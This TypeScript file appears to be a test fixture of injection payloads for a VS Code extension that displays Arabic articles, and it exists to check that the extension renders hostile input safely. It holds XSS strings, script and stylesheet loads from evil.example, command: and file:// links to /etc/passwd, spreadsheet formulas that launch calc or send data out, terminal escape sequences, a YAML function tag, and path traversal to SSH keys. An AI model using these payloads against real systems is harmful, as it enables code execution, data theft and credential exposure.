/**
 * What somebody may write into an article, a file's name or a `fihris.yaml` to make a program do more than show it. Each is harmless by
 * itself (`evil.example` is reserved, RFC 2606) and raises a flag where it works: `globalThis.pwned`, a dialog, a request.
 */
export interface Payload {
  readonly name: string;
  readonly text: string;
}

const RUN = 'globalThis.pwned=1;alert(1)';
const OUTSIDE = encodeURIComponent(
  JSON.stringify([
    {
      uri: 'file:///etc/passwd',
      range: { start: { line: 0, character: 0 }, end: { line: 0, character: 1 } },
    },
  ]),
);

const MARKDOWN = {
  'a link': '[اضغط هنا](https://evil.example/x)',
  'a picture': '![صورة](https://evil.example/p.png)',
  'a link by reference': '[x][y]\n\n[y]: https://evil.example/x',
  'an address in brackets': '<https://evil.example/x>',
  'a bare address': 'https://evil.example/x',
  'a bare address without a scheme': 'www.evil.example',
  'a mail address': 'thief@evil.example',
  code: '`code` ``more``',
  'a fence': '```sh\nrm\n```',
  'a heading': '# عنوان',
  'an underlined heading': 'عنوان\n=====',
  emphasis: '**قوي** _مائل_ ~~محذوف~~ __x__',
  'a table': '|a|b|\n|-|-|\n|c|d|',
  'a list': '- بند\n1. بند\n+ بند',
  'a task': '- [x] تم',
  'a footnote': '[^1] [^1]: x',
  math: '$\\href{javascript:alert(1)}{x}$ $$x$$',
  'character references': '&lt;b&gt; &#x6a;avascript&colon;alert(1) &nbsp;',
  'escaped marks': '\\[x\\](y) \\\\[z](https://evil.example)',
  'a rule': '---\n***',
};

const HTML = {
  'a script': `<script>${RUN}</script>`,
  'a script that loads': '<script src="https://evil.example/x.js"></script>',
  'a picture that fails': `<img src=x onerror="${RUN}">`,
  'a picture from elsewhere': '<img src="https://evil.example/p.png">',
  svg: `<svg onload="${RUN}"><script>${RUN}</script><use href="https://evil.example/x.svg#a"/></svg>`,
  'a foreign object': `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  'a frame': `<iframe srcdoc="<script>parent.pwned=1</script>" src="https://evil.example"></iframe>`,
  'a style': '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  'a style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a base': '<base href="https://evil.example/">',
  'a form': '<form action="https://evil.example"><input name=q><button>أرسل</button></form>',
  'an anchor': `<a href="javascript:${RUN}">اضغط</a>`,
  details: `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  'elements closed': '</bdi></strong></p></div></blockquote></style></script></title></body></html>',
  'a comment open': '<!-- مفتوح',
  'an attribute closed': `" onmouseover="${RUN}" x="`,
  'an attribute closed by an apostrophe': `' onfocus='${RUN}' autofocus x='`,
  'character data closed': `]]><script>${RUN}</script><![CDATA[`,
  MathML: '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>',
  'a video': `<video><source onerror="${RUN}"></video>`,
  'an object': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  'a template': `\${${RUN}} {{constructor.constructor('${RUN}')()}} <%= 7*7 %>`,
};

const LINKS = {
  'a command': '[افتح](command:workbench.action.terminal.new)',
  'a command with arguments': '[افتح](command:workbench.action.tasks.runTask?%22x%22)',
  'our own command, led out of the folder': `[افتح](command:fihris.open?${OUTSIDE})`,
  'our own command, bare': `command:fihris.open?${OUTSIDE}`,
  'a command of ours that no card uses': '[أعد](command:fihris.restartServer)',
  'a script as an address': `[اضغط](javascript:${RUN})`,
  'data as an address': '[اضغط](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'an address of the editor': '[اضغط](vscode://file/etc/passwd) vscode://file/etc/passwd',
  'a file': '[اضغط](file:///etc/passwd) file:///etc/passwd',
  'a share of another machine': '[اضغط](\\\\evil.example\\share) \\\\evil.example\\share',
};

const ICONS = {
  'an icon': '$(bug) خطأ',
  'an icon that turns': '$(sync~spin)',
  'an escaped icon': '\\$(bug)',
  'a file name in a message': '[نعم](command:workbench.action.quit "x")',
};

const DIRECTIONS = {
  'an override to the right': 'قبل \u202Eabc بعد',
  'an override to the left': 'قبل \u202Dabc بعد',
  'embeddings left open': '\u202A\u202Bقبل',
  'an isolate left open': '\u2067مفتوح',
  'isolates left open': '\u2066\u2067\u2068',
  'an isolate closed twice': 'x\u2069\u2069\u202C',
  'two hundred isolates': '\u2067'.repeat(200),
  marks: '\u061C\u200E\u200Fعلامات',
  'shaping controls': '\u206A\u206B\u206C\u206Dx',
};

const INVISIBLE = {
  'spaces without width': 'كر\u200Bيم\u200B\u2060\uFEFF',
  joiners: 'كر\u200Cيم\u200D\u200D',
  'soft hyphens': 'الدا\u00ADخلية',
  'tag characters': 'x\u{E0041}\u{E0042}\u{E007F}',
  'variation selectors': 'كريم\uFE0F\u{E0101}',
  'a Cyrillic name': 'Каrim Аbdullah',
  'Arabic letters that look alike': 'ڪريم عٻد اللہ ھاشم',
  'presentation forms': 'ﻛﺮﻳﻢ ﷲ ﷺ',
  'full width': '＜ｓｃｒｉｐｔ＞',
  fillers: '\u115F\u3164\uFFA0',
};

const CHARACTERS = {
  NUL: 'قبل\0بعد',
  'half a surrogate pair, the first': 'قبل\uD83D بعد',
  'half a surrogate pair, the second': 'قبل \uDE00بعد',
  'ten thousand marks on a letter': `ب${'\u064E\u0651'.repeat(5000)}`,
  'ten thousand Latin marks on a letter': `e${'\u0301'.repeat(10_000)}`,
  noncharacters: '\uFFFF\uFFFE\u{1FFFF}x',
  'private use': '\uE000\u{F0000}x',
  'line separators': 'قبل\u2028بعد\u2029ثم\u0085آخر',
  'a long word': 'ب'.repeat(20_000),
  'tabs and form feeds': '\t\v\fx',
};

const TERMINAL = {
  colours: '\u001B[31mأحمر\u001B[0m',
  'a cleared screen': '\u001B[2J\u001B[H',
  'a link of a terminal': '\u001B]8;;https://evil.example\u001B\\اضغط\u001B]8;;\u001B\\',
  'a title of a terminal': '\u001B]0;عنوان\u0007',
  'a clipboard of a terminal': '\u001B]52;c;cm0gLXJm\u0007',
  'a device string': '\u001BP$q"p\u001B\\',
  'controls of eight bits': '\u009B31m\u009D0;x\u009C\u0090q\u009C',
  'a line written over': 'سليم\r\u001B[Kمزور',
  'letters written over': 'abc\b\b\bxyz',
};

const FORMULAS = {
  'a formula': `=cmd|' /C calc'!A0`,
  'a formula that loads': '=HYPERLINK("https://evil.example?"&A1,"x")',
  'a sum': '+1+1',
  'a difference': '-2+3',
  'an at sign': '@SUM(1+1)',
  'a formula after a tab': '\t=1+1',
  'a formula after a line': '\r=1+1',
  'a formula in full width': '＝1+1',
  'a formula after a quotation mark': '";=1+1;"',
};

const SYNTAX = {
  'YAML, an anchor': '&a [*a, *a]',
  'YAML, a tag': '!!js/function "function(){globalThis.pwned=1}"',
  'YAML, more keys': 'x\ncorrections:\n  - hide: بغداد\n',
  'YAML, a document': '---\n%YAML 1.2\n...',
  'YAML, a block': '| \n  x: [',
  'YAML, quotes': `"': {}[]#,`,
  'JSON closed': '"}],"command":"workbench.action.quit","x":[{"',
  prototypes: '__proto__ constructor toString',
  'places of a message': '{0} {1} %s %n %d',
  'places of a replacement': "$& $1 $` $'",
  'places of a snippet': `$1 \${2:x} \${TM_FILENAME} \${3|a,b|}`,
};

const PATHS = {
  'a way up': '../../../../etc/passwd',
  'a path from the root': '/etc/passwd',
  'a way up, in Windows': '..\\..\\windows\\win.ini',
  'a drive': 'C:\\Windows\\win.ini',
  'an escaped way up': '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'a home': '~root/.ssh/id_rsa',
  'a name with a scheme': 'javascript:alert(1)',
  'a name with a query and a fragment': 'a?b#c%20d',
};

export const PAYLOADS: readonly Payload[] = Object.entries({
  ...MARKDOWN,
  ...HTML,
  ...LINKS,
  ...ICONS,
  ...DIRECTIONS,
  ...INVISIBLE,
  ...CHARACTERS,
  ...TERMINAL,
  ...FORMULAS,
  ...SYNTAX,
  ...PATHS,
}).map(([name, text]) => ({ name, text }));
